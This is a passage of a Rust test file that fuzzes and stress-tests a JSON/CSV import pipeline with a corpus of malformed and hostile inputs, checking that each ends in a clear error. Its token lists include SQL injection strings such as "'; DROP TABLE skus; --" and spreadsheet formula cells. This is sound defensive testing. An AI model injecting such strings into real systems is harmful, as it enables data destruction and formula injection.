//! The corpus of hostile and broken inputs in `tests/corpus/` (see its README.md), run through
//! every door of the system:
//!
//! - in process, without services: the readers (`read_inputs`, `count_inputs`) and validation
//!   (`prepare`) on every corpus file, on generated giants (10,000-level nesting, cells of 768 KiB, within
//!   the 1 MiB limit of one input, and over it),
//!   on the regression files, and in a seeded fuzz loop of random bytes and mutated JSON/CSV;
//! - through the worker, against the real Postgres and RabbitMQ: every corpus file ends as
//!   documented (per-input errors, or `interrupted` with `errors_log["unknown"]["inputs"]` for
//!   an unreadable file), the counters add up, and what is stored is byte-exact;
//! - through the HTTP API: broken bodies get a JSON:API 4xx, never a 5xx.
//!
//! Every input must end as a clear per-input error, a clear file-level error or a clear 4xx:
//! never a panic, a hang or a 500.

use imports_storage::imports;
use std::collections::BTreeMap;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use imports_common::catalogue::{resource_type, CATALOGUE};
use imports_common::inputs::{count_inputs, read_inputs, RawInput, RawRecord, ReadStop};
use imports_common::model::{Format, Import, Mode, Status, Tenant};
use imports_common::validate::{prepare, Cell};
use imports_storage::imports::NewImport;
use imports_tests::{ImportSpec, Inputs, TestEnv};
use reqwest::{Client, Method, StatusCode};
use serde_json::{json, Value};

const JSONAPI: &str = "application/vnd.api+json";
/// The size of the "10 MB" cells.
const TEN_MB: usize = 10 * 1024 * 1024;
/// A big cell that fits in one input ([`MAX_INPUT_BYTES`](imports_common::inputs::MAX_INPUT_BYTES))
/// once escaped in JSON or CSV.
const BIG: usize = imports_common::inputs::MAX_INPUT_BYTES as usize * 3 / 4;
/// The depth of the deeply nested JSON.
const DEEP: usize = 10_000;

// ---------------------------------------------------------------------------------------------
// The corpus and what each file must produce
// ---------------------------------------------------------------------------------------------

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus")
}

fn read_corpus(path: &str) -> Vec<u8> {
    std::fs::read(corpus_dir().join(path)).unwrap_or_else(|e| panic!("read corpus {path}: {e}"))
}

fn format_of(path: &str) -> Format {
    if path.ends_with(".csv") {
        Format::Csv
    } else {
        Format::Json
    }
}

/// One expected errors_log entry: (key, attribute, start of the message).
type ErrorEntry = (&'static str, &'static str, &'static str);

/// What a corpus file must produce once the worker is done with it.
enum Outcome {
    /// The file cannot be read: `interrupted`, with a message starting so in
    /// `errors_log["unknown"]["inputs"]`.
    Unreadable(&'static str),
    /// Read to the end and `completed`.
    Read {
        /// Inputs in the file (= `inputs_size`).
        inputs: u64,
        /// Records written (= rows in `skus`).
        processed: i64,
        /// Errors found by validation, in process.
        errors: &'static [ErrorEntry],
        /// Errors only the database finds (a NUL byte Postgres refuses to store).
        db_errors: &'static [ErrorEntry],
        /// (key, start of the message) of every warning.
        warnings: &'static [(&'static str, &'static str)],
    },
}

struct Case {
    path: &'static str,
    outcome: Outcome,
}

const fn read(inputs: u64, processed: i64, errors: &'static [ErrorEntry]) -> Outcome {
    Outcome::Read {
        inputs,
        processed,
        errors,
        db_errors: &[],
        warnings: &[],
    }
}

/// What validation says of a NUL character in a value (Postgres text and jsonb refuse it).
const NUL_TEXT: &str = "contains a NUL character, which cannot be stored";

/// Every committed corpus file but the `nul_in_*` files that only the database can reject in
/// a key, a lookup or a log message (see [`POISON`]).
const CASES: &[Case] = &[
    // JSON the reader cannot read: the import ends interrupted, saying why.
    Case {
        path: "json/truncated.json",
        outcome: Outcome::Unreadable("the JSON inputs end too early"),
    },
    Case {
        path: "json/trailing_garbage.json",
        outcome: Outcome::Unreadable("unexpected content after the inputs array"),
    },
    Case {
        path: "json/not_an_array.json",
        outcome: Outcome::Unreadable("the JSON inputs are not valid: invalid type: string"),
    },
    Case {
        path: "json/object_not_array.json",
        outcome: Outcome::Unreadable("the JSON inputs are not valid: invalid type: map"),
    },
    Case {
        path: "json/empty.json",
        outcome: Outcome::Unreadable("the JSON inputs end too early"),
    },
    Case {
        path: "json/bom.json",
        outcome: read(1, 1, &[]),
    },
    Case {
        path: "json/invalid_utf8.json",
        outcome: Outcome::Unreadable("the JSON inputs are not valid: invalid unicode code point"),
    },
    Case {
        path: "json/lone_surrogate.json",
        outcome: Outcome::Unreadable("the JSON inputs are not valid"),
    },
    Case {
        path: "json/number_out_of_range.json",
        outcome: Outcome::Unreadable("the JSON inputs are not valid: number out of range"),
    },
    // JSON read to the end, with per-input errors.
    Case {
        path: "json/mixed_elements.json",
        outcome: read(
            7,
            2,
            &[
                ("unknown", "input", "is not an object but a number"),
                ("unknown", "input", "is not an object but a string"),
                ("unknown", "input", "is not an object but null"),
                ("unknown", "input", "is not an object but an array"),
                ("unknown", "input", "is not an object but a boolean"),
            ],
        ),
    },
    Case {
        path: "json/overflow_numbers.json",
        outcome: read(
            10,
            2,
            &[
                ("OV1", "pieces_per_pack", "1e+23 is not an integer"),
                (
                    "OV2",
                    "pieces_per_pack",
                    "18446744073709551615 is not an integer",
                ),
                ("OV3", "pieces_per_pack", "-1e+23 is not an integer"),
                (
                    "OV6",
                    "pieces_per_pack",
                    "'99999999999999999999999' is not an integer",
                ),
                ("OV7", "pieces_per_pack", "1.5 is not an integer"),
                ("OV8", "weight", "must be greater than or equal to 0"),
                ("OV9", "weight", "'NaN' is not a number"),
                ("OV10", "weight", "'inf' is not a number"),
            ],
        ),
    },
    Case {
        path: "json/nul_in_text_values.json",
        outcome: Outcome::Read {
            inputs: 4,
            processed: 1,
            errors: &[
                ("NV1", "name", NUL_TEXT),
                ("NV2", "description", NUL_TEXT),
                ("NV3", "metadata", NUL_TEXT),
            ],
            db_errors: &[],
            warnings: &[],
        },
    },
    // JSON with hostile but valid values: all stored verbatim.
    Case {
        path: "json/sql_injection.json",
        outcome: Outcome::Read {
            inputs: 5,
            processed: 5,
            errors: &[],
            db_errors: &[],
            warnings: &[(
                "SQL5",
                "name; DROP TABLE skus; -- was ignored: unknown attribute",
            )],
        },
    },
    Case {
        path: "json/unicode_normalization.json",
        outcome: read(2, 2, &[]),
    },
    Case {
        path: "json/emoji_rtl.json",
        outcome: read(8, 8, &[]),
    },
    // CSV the reader cannot read.
    Case {
        path: "csv/empty.csv",
        outcome: Outcome::Unreadable("the CSV inputs have no header row"),
    },
    Case {
        path: "csv/invalid_utf8_header.csv",
        outcome: Outcome::Unreadable("column 1 of the CSV header row is not valid UTF-8"),
    },
    Case {
        path: "csv/blank_header_column.csv",
        outcome: Outcome::Unreadable("column 2 of the CSV header row has no name"),
    },
    Case {
        path: "csv/duplicate_header.csv",
        outcome: Outcome::Unreadable("the CSV header row names column 'code' twice"),
    },
    // CSV read to the end, with per-input errors.
    Case {
        path: "csv/header_only.csv",
        outcome: read(0, 0, &[]),
    },
    Case {
        path: "csv/ragged_rows.csv",
        outcome: read(
            5,
            2,
            &[
                (
                    "unknown",
                    "input",
                    "the row has 2 fields but the header row has 4",
                ),
                (
                    "unknown",
                    "input",
                    "the row has 5 fields but the header row has 4",
                ),
                (
                    "unknown",
                    "input",
                    "the row has 1 fields but the header row has 4",
                ),
            ],
        ),
    },
    Case {
        path: "csv/unbalanced_quotes.csv",
        outcome: read(
            2,
            1,
            &[(
                "unknown",
                "input",
                "the row has 2 fields but the header row has 4",
            )],
        ),
    },
    Case {
        // Known gap, see the README: the open quote runs to the end of the file, so the
        // second data row is swallowed into the first one's name, and no error says so.
        path: "csv/unbalanced_quotes_swallow.csv",
        outcome: read(1, 1, &[]),
    },
    Case {
        path: "csv/stray_quote.csv",
        outcome: read(2, 2, &[]),
    },
    Case {
        path: "csv/invalid_utf8_row.csv",
        outcome: read(
            3,
            1,
            &[
                (
                    "unknown",
                    "input",
                    "the value of column 'name' is not valid UTF-8",
                ),
                (
                    "unknown",
                    "input",
                    "the value of column 'code' is not valid UTF-8",
                ),
            ],
        ),
    },
    Case {
        path: "csv/nul_in_values.csv",
        outcome: Outcome::Read {
            inputs: 3,
            processed: 1,
            errors: &[("CN1", "name", NUL_TEXT), ("CN2", "description", NUL_TEXT)],
            db_errors: &[],
            warnings: &[],
        },
    },
    // CSV with hostile but valid values: all stored verbatim.
    Case {
        path: "csv/crlf_bom.csv",
        outcome: read(2, 2, &[]),
    },
    Case {
        path: "csv/sql_injection.csv",
        outcome: read(3, 3, &[]),
    },
    Case {
        path: "csv/formula_cells.csv",
        outcome: read(6, 6, &[]),
    },
    Case {
        path: "csv/unicode_normalization.csv",
        outcome: read(2, 2, &[]),
    },
    Case {
        path: "csv/emoji_rtl.csv",
        outcome: read(3, 3, &[]),
    },
];

/// A file whose hostile value reaches a database lookup, a unique index or a log entry:
/// the import must still complete, with the hostile input as that input's error.
struct Poison {
    name: &'static str,
    format: Format,
    bytes: Vec<u8>,
    inputs: u64,
    processed: i64,
    errors: i64,
    warnings: i64,
}

fn poison_cases() -> Vec<Poison> {
    let file = |path: &'static str, inputs, processed, errors, warnings| Poison {
        name: path,
        format: format_of(path),
        bytes: read_corpus(path),
        inputs,
        processed,
        errors,
        warnings,
    };
    vec![
        file("json/nul_in_code.json", 2, 1, 1, 0),
        file("json/nul_in_id.json", 2, 1, 1, 0),
        file("json/nul_in_relationship.json", 2, 1, 1, 0),
        file("json/nul_in_invalid_value.json", 2, 1, 1, 0),
        file("json/nul_in_attribute_name.json", 2, 2, 0, 1),
        file("csv/nul_in_code.csv", 2, 1, 1, 0),
        file("csv/nul_in_header.csv", 1, 1, 0, 1),
        Poison {
            name: "generated: a code of 768 KiB",
            format: Format::Json,
            bytes: serde_json::to_vec(&json!([
                {"code": noise(BIG, 7), "name": "a code of 768 KiB", "do_not_ship": true},
                {"code": "BIGCODE-AFTER", "name": "after it", "do_not_ship": true},
            ]))
            .unwrap(),
            inputs: 2,
            processed: 1,
            errors: 1,
            warnings: 0,
        },
    ]
}

/// `len` pseudo-random letters and digits (incompressible, unlike a repeated byte).
fn noise(len: usize, seed: u64) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut rng = XorShift::new(seed);
    (0..len)
        .map(|_| ALPHABET[rng.below(ALPHABET.len())] as char)
        .collect()
}

/// A JSON array of `depth` nested arrays.
fn deep_json(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

// ---------------------------------------------------------------------------------------------
// In process: readers and validation
// ---------------------------------------------------------------------------------------------

/// Reads a file to the end, validating every input as a SKU.
fn read_and_prepare(
    format: Format,
    bytes: &[u8],
) -> (
    Result<u64, ReadStop>,
    Vec<imports_common::validate::Prepared>,
) {
    let rt = resource_type("skus").unwrap();
    let mut out = Vec::new();
    let r = read_inputs(format, b',', bytes, 0, |i| {
        out.push(prepare(rt, i));
        true
    });
    (r, out)
}

/// Matches actual (key, attribute, message) entries against expected ones (message prefix;
/// attribute "*" matches any), as multisets. Returns what is wrong.
fn match_entries(actual: &[(String, String, String)], expected: &[ErrorEntry]) -> Vec<String> {
    let mut left: Vec<Option<&(String, String, String)>> = actual.iter().map(Some).collect();
    let mut problems = Vec::new();
    for (key, attribute, prefix) in expected {
        let found = left.iter_mut().find(|slot| {
            slot.map(|(k, a, m)| {
                k == key && (*attribute == "*" || a == attribute) && m.starts_with(prefix)
            })
            .unwrap_or(false)
        });
        match found {
            Some(slot) => *slot = None,
            None => problems.push(format!("missing error {key:?}/{attribute:?}: {prefix:?}")),
        }
    }
    for extra in left.into_iter().flatten() {
        problems.push(format!("unexpected error {extra:?}"));
    }
    problems
}

#[test]
fn every_corpus_file_reads_as_documented_in_process() {
    let mut problems = Vec::new();
    for case in CASES {
        let bytes = read_corpus(case.path);
        let format = format_of(case.path);
        let (result, prepared) = read_and_prepare(format, &bytes);
        let counted = count_inputs(format, b',', &bytes[..]);
        match (&case.outcome, result) {
            (Outcome::Unreadable(prefix), Err(ReadStop::Unreadable(e))) => {
                if !e.0.starts_with(prefix) {
                    problems.push(format!(
                        "{}: unreadable as {:?}, not {prefix:?}",
                        case.path, e.0
                    ));
                }
                // CSV is counted by the API with count_inputs: it must refuse the same files.
                // (For JSON, see the regression files: count_inputs is more lenient.)
                if format == Format::Csv && counted.as_ref().err() != Some(&e) {
                    problems.push(format!("{}: count_inputs says {counted:?}", case.path));
                }
            }
            (
                Outcome::Read {
                    inputs,
                    errors,
                    warnings,
                    ..
                },
                Ok(n),
            ) => {
                if n != *inputs || counted.as_ref().ok() != Some(inputs) {
                    problems.push(format!(
                        "{}: {n} inputs read, {counted:?} counted, {inputs} expected",
                        case.path
                    ));
                }
                let actual: Vec<(String, String, String)> = prepared
                    .iter()
                    .flat_map(|p| {
                        p.errors
                            .iter()
                            .map(|(a, m)| (p.key.clone(), a.clone(), m.clone()))
                    })
                    .collect();
                for p in match_entries(&actual, errors) {
                    problems.push(format!("{}: {p}", case.path));
                }
                let actual_warnings: Vec<(String, String)> = prepared
                    .iter()
                    .flat_map(|p| p.warnings.iter().map(|w| (p.key.clone(), w.clone())))
                    .collect();
                let expected_warnings: Vec<(String, String)> = warnings
                    .iter()
                    .map(|(k, w)| (k.to_string(), w.to_string()))
                    .collect();
                if actual_warnings != expected_warnings {
                    problems.push(format!(
                        "{}: warnings {actual_warnings:?}, expected {expected_warnings:?}",
                        case.path
                    ));
                }
            }
            (_, other) => problems.push(format!("{}: read as {other:?}", case.path)),
        }
    }
    assert!(problems.is_empty(), "\n{}", problems.join("\n"));
}

#[test]
fn the_corpus_readme_lists_every_file() {
    let readme = String::from_utf8(read_corpus("README.md")).unwrap();
    let mut missing = Vec::new();
    let poison: Vec<&str> = poison_cases().iter().map(|p| p.name).collect();
    for sub in ["json", "csv", "regressions"] {
        for entry in std::fs::read_dir(corpus_dir().join(sub)).unwrap() {
            let name = format!("{sub}/{}", entry.unwrap().file_name().to_string_lossy());
            if !readme.contains(&format!("`{name}`")) {
                missing.push(name.clone());
            }
            let known = sub == "regressions"
                || CASES.iter().any(|c| c.path == name)
                || poison.contains(&name.as_str());
            assert!(known, "{name} is in the corpus but no test runs it");
        }
    }
    assert!(
        missing.is_empty(),
        "not in tests/corpus/README.md: {missing:?}"
    );
}

#[test]
fn generated_giants_read_in_process_without_overflowing_the_stack() {
    let rt = resource_type("skus").unwrap();
    // 10,000 nested arrays as the file, and inside one input: a file-level error, quickly.
    for text in [
        deep_json(DEEP),
        format!(
            r#"[{{"code":"D1","name":"ok","do_not_ship":true}},{{"code":"D2","name":"deep","do_not_ship":true,"metadata":{{"a":{}}}}}]"#,
            deep_json(DEEP)
        ),
        format!("[{}]", "{\"a\":".repeat(DEEP) + "1" + &"}".repeat(DEEP)),
    ] {
        let started = Instant::now();
        let (result, _) = read_and_prepare(Format::Json, text.as_bytes());
        match result {
            Err(ReadStop::Unreadable(e)) => {
                assert!(e.0.contains("recursion limit exceeded"), "{e}")
            }
            other => panic!("deep JSON read as {other:?}"),
        }
        assert!(started.elapsed() < Duration::from_secs(5));
    }
    // The same nesting in a CSV metadata cell: that input's error.
    let csv = format!(
        "code,name,do_not_ship,metadata\nD3,deep,true,\"{}\"\nD4,shallow,true,\"{}\"\n",
        "{\"\"a\"\":".repeat(DEEP) + "1" + &"}".repeat(DEEP),
        "{\"\"a\"\":".repeat(100) + "1" + &"}".repeat(100),
    );
    let (result, prepared) = read_and_prepare(Format::Csv, csv.as_bytes());
    assert_eq!(result.unwrap(), 2);
    assert_eq!(prepared[0].errors.len(), 1, "{:?}", prepared[0].errors);
    assert_eq!(prepared[0].errors[0].0, "metadata");
    assert!(prepared[0].errors[0].1.ends_with("is not a JSON object"));
    assert!(prepared[1].is_valid(), "{:?}", prepared[1].errors);

    // A cell of 10 MB is over the limit of one input: the reader stops at it, in JSON and in
    // CSV, having read what came before.
    let over = "y".repeat(TEN_MB);
    let json =
        serde_json::to_vec(&json!([{"code": "OK1"}, {"code": "BIG0", "name": over}])).unwrap();
    let (result, _) = read_and_prepare(Format::Json, &json);
    assert!(
        matches!(result, Err(ReadStop::InputTooLarge(1))),
        "{result:?}"
    );
    let (result, _) = read_and_prepare(Format::Csv, big_csv(&over).as_bytes());
    assert!(
        matches!(result, Err(ReadStop::InputTooLarge(0))),
        "{result:?}"
    );

    // A cell within the limit, in JSON and in CSV (quoted, with commas, quotes and
    // newlines inside), is read whole.
    let big = big_cell();
    let json = serde_json::to_vec(&json!([{"code": "BIG1", "name": big}])).unwrap();
    let (result, prepared) = read_and_prepare(Format::Json, &json);
    assert_eq!(result.unwrap(), 1);
    let name = rt.column_index("name").unwrap();
    assert_eq!(prepared[0].cells[name], Some(Cell::Text(big.clone())));
    let csv = big_csv(&big);
    let (result, prepared) = read_and_prepare(Format::Csv, csv.as_bytes());
    assert_eq!(result.unwrap(), 2);
    let description = rt.column_index("description").unwrap();
    assert_eq!(prepared[0].cells[description], Some(Cell::Text(big)));
    assert!(prepared[1].is_valid());
}

/// Nearly 1 MiB of text with everything CSV and JSON must escape in it.
fn big_cell() -> String {
    let unit = "a,b \"quoted\" c\r\nline é 👕 ";
    let mut s = unit.repeat(BIG / unit.len() + 1);
    while s.len() > BIG {
        s.pop();
    }
    while s.len() < BIG {
        s.push('.');
    }
    s
}

fn big_csv(big: &str) -> String {
    format!(
        "code,name,description,do_not_ship\nBIG2,Big description,\"{}\",true\nBIG3,Small,after the big one,true\n",
        big.replace('"', "\"\"")
    )
}

// ---------------------------------------------------------------------------------------------
// In process: the seeded fuzz loop and the regression files
// ---------------------------------------------------------------------------------------------

/// xorshift64: small, deterministic, good enough to shake parsers.
struct XorShift(u64);

impl XorShift {
    fn new(seed: u64) -> Self {
        XorShift(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn one_in(&mut self, n: u64) -> bool {
        self.below(n as usize) == 0
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// Byte strings that mean something to a JSON or CSV parser, or to validation.
const TOKENS: &[&[u8]] = &[
    b"\"",
    b"\"\"",
    b",",
    b"\n",
    b"\r\n",
    b"\r",
    b"\0",
    b"{",
    b"}",
    b"[",
    b"]",
    b":",
    b"\\",
    b"\\u0000",
    b"\\ud800",
    b"\\udc00\\ud800",
    b"\xff",
    b"\xc3",
    b"\xef\xbb\xbf",
    b"1e400",
    b"-",
    b"99999999999999999999999",
    b"-9223372036854775808",
    b"18446744073709551616",
    b"0.0000000000000000000000001",
    b"null",
    b"true",
    b"\"code\"",
    b"\"id\"",
    b"\"metadata\"",
    b"\"pieces_per_pack\"",
    b"\"shipping_category_code\"",
    b"metadata.color",
    b"metadata",
    b"id",
    b"=HYPERLINK(\"x\")",
    b"'; DROP TABLE skus; --",
    b"e\xcc\x81",
    b"\xf0\x9f\x91\x95",
    b"\xe2\x80\xae",
    b"NaN",
    b"inf",
    b" ",
    b"\t",
];

/// Valid files the mutations start from.
fn seeds() -> Vec<(Format, Vec<u8>)> {
    let mut seeds = vec![
        (
            Format::Json,
            br#"[{"code":"A1","name":"Shirt","pieces_per_pack":6,"weight":1.5,"unit_of_weight":"gr","do_not_ship":true,"metadata":{"color":"red","tags":["a","b"]},"shipping_category_code":"STD"},{"id":"x1","description":null},42]"#.to_vec(),
        ),
        (
            Format::Csv,
            b"code,name,pieces_per_pack,weight,do_not_ship,metadata.color,metadata,id\nA1,\"Shirt, red\",6,1.5,yes,red,,\nB2,\"multi\nline\",,,,,\"{\"\"k\"\":1}\",\n,,,,,,,x9\n".to_vec(),
        ),
    ];
    for case in CASES {
        let bytes = read_corpus(case.path);
        if bytes.len() < 4096 {
            seeds.push((format_of(case.path), bytes));
        }
    }
    seeds
}

fn mutate(rng: &mut XorShift, input: &mut Vec<u8>, other: &[u8]) {
    for _ in 0..1 + rng.below(4) {
        let at = rng.below(input.len() + 1);
        match rng.below(7) {
            0 if !input.is_empty() => {
                let i = rng.below(input.len());
                input[i] = rng.next() as u8;
            }
            1 | 2 => {
                let token = rng.pick(TOKENS);
                input.splice(at..at, token.iter().copied());
            }
            3 if !input.is_empty() => {
                let end = (at + 1 + rng.below(16)).min(input.len());
                input.drain(at.min(end)..end);
            }
            4 if !input.is_empty() => {
                let start = rng.below(input.len());
                let end = (start + 1 + rng.below(32)).min(input.len());
                let slice = input[start..end].to_vec();
                for _ in 0..1 + rng.below(3) {
                    input.splice(at..at, slice.iter().copied());
                }
            }
            5 => input.truncate(at),
            _ if !other.is_empty() => {
                let start = rng.below(other.len());
                input.splice(at..at, other[start..].iter().copied());
            }
            _ => input.push(rng.next() as u8),
        }
    }
}

/// A random JSON value, sometimes nested, often at the edges of the types validation knows.
fn random_value(rng: &mut XorShift, depth: usize) -> Value {
    match rng.below(if depth > 3 { 5 } else { 7 }) {
        0 => Value::Null,
        1 => Value::Bool(rng.one_in(2)),
        2 => {
            let any = rng.next() as i64;
            json!(*rng.pick(&[0i64, 1, -1, i64::MIN, i64::MAX, 9_007_199_254_740_993, any]))
        }
        3 => {
            let any = f64::from_bits(rng.next() & 0x7fef_ffff_ffff_ffff);
            json!(*rng.pick(&[0.5f64, -0.0, 1e308, -1e308, 5e-324, 1e15, 9.0e15, any]))
        }
        4 => Value::String(
            rng.pick(&[
                "",
                "   ",
                "\0",
                "a\0b",
                "12",
                " 7 ",
                "1.0",
                "-3",
                "99999999999999999999999",
                "NaN",
                "inf",
                "-inf",
                "1e400",
                "true",
                "YES",
                "0",
                "gr",
                "kg",
                "eur",
                "EURO",
                "a@b.co",
                "not an email",
                "{\"k\":1}",
                "[1]",
                "'; DROP TABLE skus; --",
                "=1+1",
                "caf\u{e9}",
                "cafe\u{301}",
                "\u{202e}rtl",
                "\u{1f455}",
            ])
            .to_string(),
        ),
        5 => Value::Array(
            (0..rng.below(3))
                .map(|_| random_value(rng, depth + 1))
                .collect(),
        ),
        _ => {
            let mut m = serde_json::Map::new();
            for _ in 0..rng.below(4) {
                m.insert(random_key(rng), random_value(rng, depth + 1));
            }
            Value::Object(m)
        }
    }
}

fn random_key(rng: &mut XorShift) -> String {
    let rt = rng.pick(CATALOGUE);
    let mut names: Vec<&str> = rt.all_attributes().map(|a| a.name).collect();
    for rel in rt.relationships {
        names.push(rel.id_attribute);
        if let Some(k) = rel.by_key {
            names.push(k.input);
        }
    }
    names.extend(["id", "metadata.color", "unknown", "", "\0", "code ", "é"]);
    rng.pick(&names).to_string()
}

/// One CSV line, every cell quoted.
fn csv_line(cells: &[String]) -> String {
    let quoted: Vec<String> = cells
        .iter()
        .map(|c| format!("\"{}\"", c.replace('"', "\"\"")))
        .collect();
    quoted.join(",") + "\n"
}

/// Why a file fails the fuzz properties.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Failure {
    /// A reader or validation panicked.
    Panic,
    /// `count_inputs` accepts a file that `read_inputs` refuses, or counts otherwise.
    CountMismatch,
    /// Positions, resuming, or a validated value out of its attribute's bounds.
    Wrong,
}

/// Everything the fuzz loop asserts about one file, beyond "no panic": `count_inputs` and
/// `read_inputs` agree (the API and the benchmark count with one, the worker reads with the
/// other), positions are 0, 1, 2..., resuming after `k` inputs gives the same tail, and every
/// validated value respects its attribute's bounds.
fn exercise(format: Format, bytes: &[u8]) -> Result<(), (Failure, String)> {
    let counted = count_inputs(format, b',', bytes);
    let mut inputs: Vec<RawInput> = Vec::new();
    let read = read_inputs(format, b',', bytes, 0, |i| {
        inputs.push(i);
        true
    });
    match (&counted, &read) {
        (Ok(n), Ok(m)) if n == m && *m == inputs.len() as u64 => {}
        // Both refuse the file (the messages may differ: they stop at different places).
        (Err(_), Err(ReadStop::Unreadable(_))) => {}
        _ => {
            return Err((
                Failure::CountMismatch,
                format!("count_inputs {counted:?} but read_inputs {read:?}"),
            ))
        }
    }
    for (i, input) in inputs.iter().enumerate() {
        if input.position != i as u64 {
            return Err((
                Failure::Wrong,
                format!("input {i} has position {}", input.position),
            ));
        }
    }
    if inputs.len() > 1 {
        let skip = inputs.len() as u64 / 2;
        let mut tail = Vec::new();
        let _ = read_inputs(format, b',', bytes, skip, |i| {
            tail.push(i);
            true
        });
        if tail[..] != inputs[skip as usize..] {
            return Err((
                Failure::Wrong,
                format!("resuming after {skip} inputs reads another tail"),
            ));
        }
    }
    for rt in CATALOGUE {
        let columns = rt.columns();
        for input in &inputs {
            let p = prepare(rt, input.clone());
            check_prepared(rt, &columns, &p).map_err(|e| (Failure::Wrong, e))?;
        }
    }
    Ok(())
}

fn check_prepared(
    rt: &imports_common::catalogue::ResourceType,
    columns: &[imports_common::catalogue::Column],
    p: &imports_common::validate::Prepared,
) -> Result<(), String> {
    if p.key.trim().is_empty() {
        return Err(format!("{}: empty log key", rt.name));
    }
    for (a, m) in &p.errors {
        if a.is_empty() || m.is_empty() {
            return Err(format!("{}: empty error {a:?}: {m:?}", rt.name));
        }
    }
    for (cell, column) in p.cells.iter().zip(columns) {
        let Some(attr) = rt.attribute(column.name) else {
            continue;
        };
        match (cell, attr.min) {
            (Some(Cell::Integer(n)), Some(min)) if *n < min => {
                return Err(format!("{}.{} = {n} below {min}", rt.name, attr.name))
            }
            (Some(Cell::Float(f)), min) if !f.is_finite() || min.is_some_and(|m| *f < m as f64) => {
                return Err(format!("{}.{} = {f}", rt.name, attr.name))
            }
            _ => {}
        }
    }
    Ok(())
}

/// Runs `exercise` on `bytes`, turning a panic into a failure.
fn exercise_caught(format: Format, bytes: &[u8]) -> Result<(), (Failure, String)> {
    match catch_unwind(AssertUnwindSafe(|| exercise(format, bytes))) {
        Ok(r) => r,
        Err(panic) => Err((
            Failure::Panic,
            format!(
                "panicked: {}",
                panic
                    .downcast_ref::<String>()
                    .cloned()
                    .or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()))
                    .unwrap_or_default()
            ),
        )),
    }
}

/// Where the fuzz loop keeps the inputs that fail (copy them to tests/corpus/regressions/).
fn failure_dir() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("corpus-fuzz-failures")
}

fn keep_failure(format: Format, bytes: &[u8], why: &str) -> String {
    let dir = failure_dir();
    std::fs::create_dir_all(&dir).unwrap();
    let hash = bytes.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ *b as u64).wrapping_mul(0x100_0000_01b3)
    });
    let ext = if format == Format::Csv { "csv" } else { "json" };
    let path = dir.join(format!("fuzz-{hash:016x}.{ext}"));
    std::fs::write(&path, bytes).unwrap();
    format!("{} ({why})", path.display())
}

/// Runs `work` on another thread and fails if it is not done within `budget`: a hang is a
/// failure that names the input being read (kept as a regression candidate).
fn within<T: Send + 'static>(
    budget: Duration,
    current: Arc<Mutex<(Format, Vec<u8>)>>,
    work: impl FnOnce() -> T + Send + 'static,
) -> T {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::Builder::new()
        .name("corpus-fuzz".into())
        .stack_size(8 * 1024 * 1024)
        .spawn(move || {
            let _ = tx.send(work());
        })
        .unwrap();
    match rx.recv_timeout(budget) {
        Ok(v) => v,
        Err(_) => {
            let (format, bytes) = current
                .lock()
                .map(|c| c.clone())
                .unwrap_or((Format::Json, vec![]));
            let kept = keep_failure(format, &bytes, "did not terminate");
            panic!("no answer within {budget:?}; the input being read is kept in {kept}");
        }
    }
}

#[test]
fn fuzzing_the_readers_and_validation_never_panics_or_hangs() {
    const SEED: u64 = 0x00C0_FFEE_2024;
    const RANDOM_FILES: usize = 3_000;
    const MUTATIONS: usize = 6_000;
    const OBJECTS: usize = 4_000;
    let current = Arc::new(Mutex::new((Format::Json, Vec::new())));
    let shared = current.clone();
    let failures = within(Duration::from_secs(40), current, move || {
        let mut rng = XorShift::new(SEED);
        // Per kind of failure: how many, and the first few inputs (kept as files).
        let mut failures: BTreeMap<Failure, (usize, Vec<String>)> = BTreeMap::new();
        let run = |format: Format,
                   bytes: Vec<u8>,
                   failures: &mut BTreeMap<Failure, (usize, Vec<String>)>| {
            *shared.lock().unwrap() = (format, bytes.clone());
            if let Err((kind, why)) = exercise_caught(format, &bytes) {
                let (n, kept) = failures.entry(kind).or_default();
                *n += 1;
                if kept.len() < 5 {
                    kept.push(keep_failure(format, &bytes, &why));
                }
            }
        };
        // Random bytes, mostly from the tokens, as both formats.
        for _ in 0..RANDOM_FILES {
            let mut bytes = Vec::new();
            for _ in 0..rng.below(64) {
                if rng.one_in(3) {
                    bytes.push(rng.next() as u8);
                } else {
                    let token: &&[u8] = rng.pick(TOKENS);
                    bytes.extend_from_slice(token);
                }
            }
            let format = if rng.one_in(2) {
                Format::Json
            } else {
                Format::Csv
            };
            run(format, bytes, &mut failures);
        }
        // Mutations of valid files.
        let seeds = seeds();
        for _ in 0..MUTATIONS {
            let (format, seed) = rng.pick(&seeds).clone();
            let other = rng.pick(&seeds).1.clone();
            let mut bytes = seed;
            mutate(&mut rng, &mut bytes, &other);
            run(format, bytes, &mut failures);
        }
        // Well-formed files of random objects: validation at the edges of every type.
        for _ in 0..OBJECTS {
            let n = 1 + rng.below(4);
            let items: Vec<Value> = (0..n).map(|_| random_value(&mut rng, 0)).collect();
            let json = serde_json::to_vec(&items).unwrap();
            run(Format::Json, json, &mut failures);
            // The same objects' top-level keys and values as CSV cells.
            let mut headers: Vec<String> = Vec::new();
            for item in &items {
                if let Value::Object(m) = item {
                    for k in m.keys() {
                        if !headers.contains(k) && !k.is_empty() {
                            headers.push(k.clone());
                        }
                    }
                }
            }
            if headers.is_empty() {
                continue;
            }
            let mut csv = csv_line(&headers);
            for item in &items {
                let row: Vec<String> = headers
                    .iter()
                    .map(|h| match item.get(h) {
